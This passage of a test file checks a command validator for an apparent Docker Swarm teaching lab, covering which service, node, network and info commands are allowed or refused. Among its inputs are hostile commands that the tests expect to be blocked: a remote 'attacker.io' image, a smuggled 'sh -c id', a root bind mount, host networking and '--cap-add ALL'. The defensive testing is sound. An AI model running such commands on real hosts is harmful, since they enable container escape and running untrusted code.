    ['docker service update --image alpine redis', /^image alpine: not available in local mode: the real swarm runs only the images preloaded on it \(redis:7\.4\.0, redis:7\.4\.1, nginx:1\.27\.3\) and never pulls/],
    ['docker service create --name x attacker.io/x:1', /^image attacker\.io\/x:1: not available in local mode/],
    ['docker service create --name x redis:7.4.0 sh -c id', /^docker service create IMAGE COMMAND: not available in local mode: services on the real swarm run their image's own command .*drop "sh -c id"/],
    ['docker swarm leave --force', /already formed.*Switch to the simulator/],
    ['docker node rm worker2', /drain a node instead: docker node update --availability drain NODE/],
  ])('%s: refused, saying why', (line, why) => {
    const v = checkCommandLine(line, { scoped: false });
    expect(v.ok).toBe(false);
    expect(!v.ok && v.message).toMatch(why);
  });

  it.each([
    'docker node update --availability drain manager1',
    'docker node update --availability pause worker1',
    'docker node update --availability active worker2',
    'docker node update worker2',
  ])('N3 on the learner\'s own daemon %s: refused, saying why and where to practise it', (line) => {
    const v = checkCommandLine(line, { scoped: true });
    expect(v.ok).toBe(false);
    expect(!v.ok && v.message).toMatch(/^docker node update: not available in local mode: on your own Docker daemon Swarm Lab never changes a node's availability: .*moves or holds your own services' tasks\. Practise this step on the sandbox swarm \(npm run sandbox:up\) or in the simulator\./);
    expect(checkCommandLine(line, { scoped: false })).toEqual({ ok: true });
  });

  it.each(["docker info --format '{{json .}}'", 'docker info -f json', "docker system info --format '{{.HTTPProxy}}'", 'docker info --format={{.Name}}'])(
    'I1 on the learner\'s own daemon %s: refused (a custom format prints every detail); plain docker info runs',
    (line) => {
      const v = checkCommandLine(line, { scoped: true });
      expect(!v.ok && v.message).toMatch(/^docker info --format: not available in local mode: on your own Docker daemon a custom format could print any detail of it/);
      expect(checkCommandLine(line, { scoped: false })).toEqual({ ok: true });
      expect(checkCommandLine('docker info', { scoped: true })).toEqual({ ok: true });
    },
  );

  // The routing-mesh lesson's lines (content/lessons/routing-mesh.ts, a copy until it is merged).
  it.each([
    'docker service create --name my-web --publish published=8080,target=80 --replicas 2 nginx:1.27.3',
    'docker service create --name my-web-host --publish mode=host,published=8090,target=80 --replicas 2 nginx:1.27.3',
    'docker service create --name my-udp -p 8082:80/udp nginx:1.27.3',
    'docker service create --name my-both -p published=8083,target=80,protocol=udp -p 8084:80 nginx:1.27.3',
    'docker service update --publish-add published=8081,target=80 my-web',
    'docker service update --publish-add mode=host,published=8091,target=80 my-web',
    'docker service update --publish-rm published=8081,target=80 my-web',
    'docker service update --publish-rm 8081 my-web',
    'docker service ls',
    'docker service inspect --pretty my-web',
    "docker service inspect --format '{{json .Endpoint.Spec.Ports}}' my-web",
    'docker service ps my-web-host',
    'docker network ls',
    'docker network list',
    "docker network ls --format '{{.Name}} {{.Driver}} {{.Scope}}'",
    'docker network inspect ingress',
    "docker network inspect -f '{{json .IPAM}}' ingress",
    "docker network inspect --format='{{.Ingress}}' ingress",
    'docker network inspect --help',
    'docker network --help',
    'docker network',
    'curl -s http://localhost:8080',
    'curl -s -i http://localhost:8080',
    'ssh worker2',
    'docker service rm my-web my-web-host',
  ])('routing-mesh on the sandbox: %s passes', (line) => {
    expect(checkCommandLine(line, { scoped: false })).toEqual({ ok: true });
  });

  it.each([
    ['docker network create -d overlay x', /^docker network create: not available in local mode$/],
    ['docker network rm ingress', /^docker network rm: not available in local mode$/],
    ['docker network connect ingress abc', /^docker network connect: not available/],
    ['docker network disconnect ingress abc', /^docker network disconnect: not available/],
    ['docker network prune -f', /^docker network prune: not available/],
    ['docker network inspect bridge', /^docker network inspect bridge: not available in local mode: only the ingress network may be inspected here/],
    ['docker network inspect ingress docker_gwbridge', /^docker network inspect docker_gwbridge: not available/],
    ['docker network inspect --verbose ingress', /^docker network inspect --verbose: not available/],
    ['docker network inspect -v ingress', /^docker network inspect -v: not available/],
  ])('network: %s refused (read-only, the ingress network only)', (line, why) => {
    const v = checkCommandLine(line, { scoped: false });
    expect(!v.ok && v.message).toMatch(why);
  });

  it.each(['docker network ls', 'docker network inspect ingress'])('network on the learner\'s own daemon: %s refused, saying why', (line) => {
    const v = checkCommandLine(line, { scoped: true });
    expect(!v.ok && v.message).toMatch(/^docker network (ls|inspect): not available in local mode: on your own Docker daemon the networks are yours/);
  });

  it.each([
    'docker service create --name x --publish published=8080,target=80 --mount type=bind,source=/,target=/h nginx:1.27.3',
    'docker service create --name x -p 8080:80 --network host nginx:1.27.3',
    'docker service update --publish-add published=8081,target=80 --cap-add ALL my-web',
  ])('a lesson flag does not carry a hostile one through: %s refused', (line) => {
    expect(checkCommandLine(line, { scoped: false }).ok).toBe(false);
  });

  it('the preloaded images follow the server\'s list', () => {
    const images = new Set(['redis:7.4.0', 'nginx:1.27']);
    expect(checkCommandLine('docker service create --name web nginx:1.27', { scoped: false, images }).ok).toBe(true);
    const v = checkCommandLine('docker service update --image redis:7.4.1 redis', { scoped: false, images });
    expect(!v.ok && v.message).toMatch(/\(redis:7\.4\.0, nginx:1\.27\)/);
  });
});
